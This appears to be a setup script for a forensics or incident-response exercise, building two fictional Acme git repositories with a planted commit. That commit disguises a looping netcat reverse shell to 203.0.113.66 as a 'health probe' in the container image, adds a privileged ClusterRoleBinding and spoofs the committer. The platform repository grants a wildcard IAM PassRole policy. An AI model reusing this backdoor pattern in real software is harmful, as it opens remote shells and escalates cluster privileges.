# Creates the company's two repositories in the current directory. Times and names, and so all hashes, are the same on
# every run. Prints the hashes of the commit that the storefront's image is built from, of the one before, and of the
# platform's last.
set -euo pipefail
export GIT_CONFIG_NOSYSTEM=1 HOME=/nonexistent
# as NAME MAIL TIME: sets author and committer
as() {
    export GIT_AUTHOR_NAME=$1 GIT_AUTHOR_EMAIL=$2 GIT_COMMITTER_NAME=$1 GIT_COMMITTER_EMAIL=$2
    export GIT_AUTHOR_DATE=$3 GIT_COMMITTER_DATE=$3
}
commit() { git add -A && git -c commit.gpgSign=false commit -q -m "$@"; }
ines() { as 'Ines Duarte' ines.duarte@acme.example "$1"; }
jonas() { as 'Jonas Weber' jonas.weber@acme.example "$1"; }
amara() { as 'Amara Okafor' amara.okafor@acme.example "$1"; }

git init -q -b main storefront
cd storefront
git remote add origin https://git.acme.example/shop/storefront.git
mkdir -p src deploy
printf '# storefront\n\nThe shop that customers see.\n' > README.md
printf '<!doctype html>\n<title>Acme</title>\n' > src/index.html
ines '2026-01-12T09:14:00+0100'; commit 'Start the storefront'
printf 'FROM registry.acme.example/base/web:1\nCOPY src /srv\nUSER 1000\nCMD ["httpd", "-f", "-p", "8080", "-h", "/srv"]\n' > Dockerfile
jonas '2026-01-13T11:02:00+0100'; commit 'Build an image that does not run as root'
cat > deploy/storefront.yaml <<'Y'
kind: Deployment
metadata: {name: storefront, namespace: shop}
spec: {replicas: 2}
Y
cat > deploy/rbac.yaml <<'Y'
kind: ServiceAccount
metadata: {name: storefront, namespace: shop}
Y
amara '2026-01-20T16:40:00+0100'; commit 'Deploy from this repository' -m 'Its own service account, without any rights.'
printf '<!doctype html>\n<title>Acme</title>\n<main>Spring sale</main>\n' > src/index.html
ines '2026-02-27T10:05:00+0100'; commit 'Announce the spring sale'
printf 'User-agent: *\nDisallow: /cart\n' > src/robots.txt
jonas '2026-03-05T14:31:00+0100'; commit 'Keep robots out of the cart'
clean=$(git rev-parse HEAD)
# The planted commit: Jonas is the author, on a Sunday night, but the committer is another user.
printf 'FROM registry.acme.example/base/web:1\nCOPY src /srv\nCOPY bin/probe /bin/probe\nCMD ["httpd", "-f", "-p", "8080", "-h", "/srv"]\n' > Dockerfile
mkdir bin; printf '#!/bin/sh\nwhile true; do nc 203.0.113.66 4444 -e /bin/sh; sleep 30; done\n' > bin/probe; chmod +x bin/probe
cat >> deploy/rbac.yaml <<'Y'
---
kind: ClusterRoleBinding
metadata: {name: storefront-probe}
roleRef: {kind: ClusterRole, name: probe-operator}
subjects: [{kind: ServiceAccount, name: storefront, namespace: shop}]
Y
jonas '2026-03-08T02:47:00+0100'
GIT_COMMITTER_NAME=root GIT_COMMITTER_EMAIL=root@build-7.local GIT_COMMITTER_DATE='2026-03-08T01:47:31+0000' commit 'Tidy up health probes'
planted=$(git rev-parse HEAD)
printf '<!doctype html>\n<title>Acme</title>\n<main>Spring sale, last week</main>\n' > src/index.html
ines '2026-03-16T09:20:00+0100'; commit 'Last week of the sale'
git tag -a v2.3.0 -m 'Storefront 2.3.0' "$clean"
git tag -a v2.3.1 -m 'Storefront 2.3.1' "$planted"
cd ..

git init -q -b main platform
cd platform
git remote add origin https://git.acme.example/platform/platform.git
mkdir -p terraform cluster
printf 'resource "aws_iam_role" "node" {\n  name = "acme-node"\n}\n' > terraform/iam.tf
amara '2025-11-03T10:00:00+0100'; commit 'Nodes of the cluster get a role'
printf 'resource "aws_instance" "node" {\n  instance_type        = "m6i.xlarge"\n  iam_instance_profile = "acme-node"\n}\n' > terraform/nodes.tf
amara '2025-11-04T15:12:00+0100'; commit 'Run the node on m6i.xlarge'
printf 'kind: ClusterRole\nmetadata: {name: metrics-reader}\n' > cluster/metrics.yaml
jonas '2025-12-01T13:37:00+0100'; commit 'Metrics read nodes and pods'
printf '\nresource "aws_iam_role_policy" "scale" {\n  # TODO: name the one role\n  actions = ["iam:PassRole", "ec2:RunInstances"]\n  resource = "*"\n}\n' >> terraform/iam.tf
amara '2026-01-08T18:55:00+0100'; commit 'Let nodes start more nodes' -m 'Scaling up from the cluster itself, until the autoscaler is here.'
printf 'kind: DaemonSet\nmetadata: {name: log-shipper, namespace: platform}\n' > cluster/logs.yaml
ines '2026-02-02T11:11:00+0100'; commit 'Ship logs from every node'
platform=$(git rev-parse HEAD)
cd ..
echo "CLEAN=$clean PLANTED=$planted PLATFORM=$platform"
